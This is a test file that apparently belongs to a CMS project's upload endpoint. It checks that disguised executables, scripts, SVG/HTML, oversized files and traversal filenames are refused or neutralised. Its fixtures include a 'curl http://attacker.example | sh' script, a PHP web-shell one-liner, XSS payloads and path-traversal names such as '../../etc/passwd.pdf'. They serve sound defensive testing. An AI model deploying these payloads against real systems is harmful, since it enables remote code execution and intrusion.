import fs from 'node:fs'
import path from 'node:path'

import { beforeAll, describe, expect, it } from 'vitest'

import type { ProjectFile } from '../../payload-types'
import { briefFormData } from '../helpers/brief-form'
import { createActors, system, TEST_PASSWORD, testPayload, uniqueEmail } from '../helpers/payload'
import { rest } from '../helpers/rest'

/**
 * Hostile files in a brief (POST /api/project-submissions/brief), beyond what brief.test.ts
 * covers: each refused file leaves no row and no byte on disk, accepted ones stay inside their
 * submission's folder under a harmless name and are only ever served to admins, as attachments.
 */
const fixture = (name: string) =>
  fs.readFileSync(path.join(import.meta.dirname, '../fixtures', name))
const JPEG = fixture('photo.jpg')
const PDF = fixture('brief.pdf')
const DOC = fixture('ancien.doc')

const ELF = Buffer.concat([
  Buffer.from('7f454c46020101000000000000000000', 'hex'),
  Buffer.alloc(64),
])
/** A DOS header whose e_lfanew points at a PE signature: what file-type knows as an .exe. */
const PE = (() => {
  const bytes = Buffer.alloc(256)
  bytes.write('MZ', 0, 'latin1')
  bytes.writeUInt32LE(128, 60)
  bytes.write('PE\0\0', 128, 'latin1')
  return bytes
})()
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://attacker.example | sh\n')
const HTML = Buffer.from('<!doctype html><script>window.__xss=1</script>')
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1"><script>window.__xss=1</script></svg>',
)
const PHP = Buffer.from('<?php system($_GET["c"]); ?>')

let adminToken: string
let clientToken: string

beforeAll(async () => {
  const payload = await testPayload()
  const { admin, clientA } = await createActors(payload)
  for (const [user, set] of [
    [admin, (token: string) => (adminToken = token)],
    [clientA, (token: string) => (clientToken = token)],
  ] as const) {
    const login = await rest('POST', 'users/login', {
      json: { email: user.email, password: TEST_PASSWORD },
    })
    set(login.data.token as string)
  }
})

const mediaDir = () => process.env.MEDIA_DIR!
/** Every file under MEDIA_DIR, relative to it. */
const filesOnDisk = () =>
  fs
    .readdirSync(mediaDir(), { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => path.relative(mediaDir(), path.join(entry.parentPath, entry.name)))

/** Sends a valid brief with these files; answers the response and what was stored for it. */
const sendBrief = async (files: [string, Buffer][]) => {
  const email = uniqueEmail('upload')
  const form = briefFormData(email, files)
  const before = new Set(filesOnDisk())
  const answer = await rest('POST', 'project-submissions/brief', { form })
  const payload = await testPayload()
  const { docs } = await payload.find({
    collection: 'project-submissions',
    where: { email: { equals: email } },
    ...system,
  })
  const stored = docs[0]
    ? (
        await payload.find({
          collection: 'project-files',
          where: { submission: { equals: docs[0].id } },
          sort: 'createdAt',
          depth: 0,
          ...system,
        })
      ).docs
    : []
  return {
    answer,
    submissions: docs,
    stored,
    written: filesOnDisk().filter((file) => !before.has(file)),
  }
}

/** Where a stored file is on disk: inside its submission's folder, nowhere else. */
const onDisk = (file: ProjectFile) =>
  path.join('project-files', String(file.submission), file.filename!)

describe('files whose bytes are not what their name says', () => {
  it('refuses executables, scripts, markup and SVG, and stores none of them', async () => {
    const hostile: [string, Buffer][] = [
      ['rapport.pdf', ELF],
      ['photo.jpg', PE],
      ['setup.pdf', SCRIPT],
      ['page.pdf', HTML],
      ['logo.svg', SVG],
      ['logo.png', SVG],
      ['shell.php.jpg', PHP],
      ['cahier.docx', Buffer.from('PK\u0003\u0004 not a word document')],
    ]
    const { answer, submissions, stored, written } = await sendBrief(hostile)
    expect(answer.status).toBe(201)
    expect(answer.data.rejected).toEqual(hostile.map(([name]) => ({ name, reason: 'type' })))
    expect(submissions).toHaveLength(1)
    expect(stored).toEqual([])
    expect(written).toEqual([])
  })

  it('takes a real JPEG and a Word 97 document, byte for byte', async () => {
    const { answer, stored, written } = await sendBrief([
      ['photo.jpg', JPEG],
      ['ancien.doc', DOC],
    ])
    expect(answer.data.rejected).toEqual([])
    expect(stored.map(({ filename, mimeType }) => `${filename}:${mimeType}`)).toEqual([
      'photo.jpg:image/jpeg',
      'ancien.doc:application/msword',
    ])
    expect(written.sort()).toEqual(stored.map(onDisk).sort())
    expect(fs.readFileSync(path.join(mediaDir(), onDisk(stored[0]!)))).toEqual(JPEG)
    expect(fs.readFileSync(path.join(mediaDir(), onDisk(stored[1]!)))).toEqual(DOC)
  })
})

describe('names chosen to escape or to mislead', () => {
  it('keeps every file inside its submission folder under a plain name', async () => {
    const names = [
      '../../etc/passwd.pdf',
      '..\\..\\windows\\x.pdf',
      '/etc/cron.d/x.pdf',
      'nul\u0000byte.pdf',
      'bell\u0007\r\nline.pdf',
      `${'a'.repeat(300)}.pdf`,
      '.htaccess.pdf',
      '..',
      '\u0007',
    ]
    const { answer, stored, written } = await sendBrief(names.map((name) => [name, PDF]))
    expect(answer.status).toBe(201)
    expect(answer.data.rejected).toEqual([])
    expect(stored).toHaveLength(names.length)
    for (const { filename, submission } of stored) {
      expect(filename).toMatch(/^[^/\\\u0000-\u001f]+$/)
      expect(Buffer.byteLength(filename!)).toBeLessThanOrEqual(255)
      expect(
        fs.readFileSync(path.join(mediaDir(), 'project-files', String(submission), filename!)),
      ).toEqual(PDF)
    }
    expect(written.sort()).toEqual(stored.map(onDisk).sort())
  })

  it('serves a double extension and a polyglot only to admins, as inert attachments', async () => {
    // A real JPEG with an HTML page after its end, and a PDF with one after its trailer: both
    // are what their bytes say; a browser must never be able to run the HTML part.
    const polyglotJpeg = Buffer.concat([JPEG, HTML])
    const polyglotPdf = Buffer.concat([PDF, Buffer.from('\n'), HTML])
    const { answer, stored } = await sendBrief([
      ['rapport.pdf.html', PDF],
      ['image.jpg', polyglotJpeg],
      ['annexe.pdf', polyglotPdf],
    ])
    expect(answer.data.rejected).toEqual([])
    expect(stored.map(({ mimeType }) => mimeType)).toEqual([
      'application/pdf',
      'image/jpeg',
      'application/pdf',
    ])
    for (const file of stored) {
      const url = file.url!.replace(/^.*?\/api\//, '')
      for (const token of [undefined, clientToken])
        expect([401, 403, 404]).toContain((await rest('GET', url, { token })).status)
      const served = await rest('GET', url, { token: adminToken })
      expect(served.status).toBe(200)
      expect(served.headers.get('content-type')).toBe(file.mimeType)
      expect(served.headers.get('x-content-type-options')).toBe('nosniff')
      expect(served.headers.get('content-disposition')).toMatch(/^attachment;/)
    }
  })
})

describe('too big and too many', () => {
  it('refuses a file over 10 MB and every file after the tenth, writing none of them', async () => {
    const tooBig = Buffer.concat([PDF, Buffer.alloc(10 * 1024 * 1024 + 1 - PDF.byteLength, 0x20)])
    const eleven = Array.from({ length: 11 }, (_, index): [string, Buffer] => [
      `p${index}.pdf`,
      PDF,
    ])
    const { answer, stored, written } = await sendBrief([['gros.pdf', tooBig], ...eleven])
    expect(answer.status).toBe(201)
    expect(answer.data.rejected).toEqual([
      { name: 'gros.pdf', reason: 'size' },
      { name: 'p10.pdf', reason: 'count' },
    ])
    expect(stored.map(({ filename }) => filename)).toEqual(
      eleven.slice(0, 10).map(([name]) => name),
    )
    expect(written).toHaveLength(10)
  })

  it('refuses a body over the cap before reading it, storing nothing at all', async () => {
    const big = Buffer.concat([PDF, Buffer.alloc(9 * 1024 * 1024, 0x20)])
    const { answer, submissions, written } = await sendBrief(
      Array.from({ length: 13 }, (_, index): [string, Buffer] => [`b${index}.pdf`, big]),
    )
    expect(answer.status).toBe(413)
    expect(submissions).toEqual([])
    expect(written).toEqual([])
  })
})
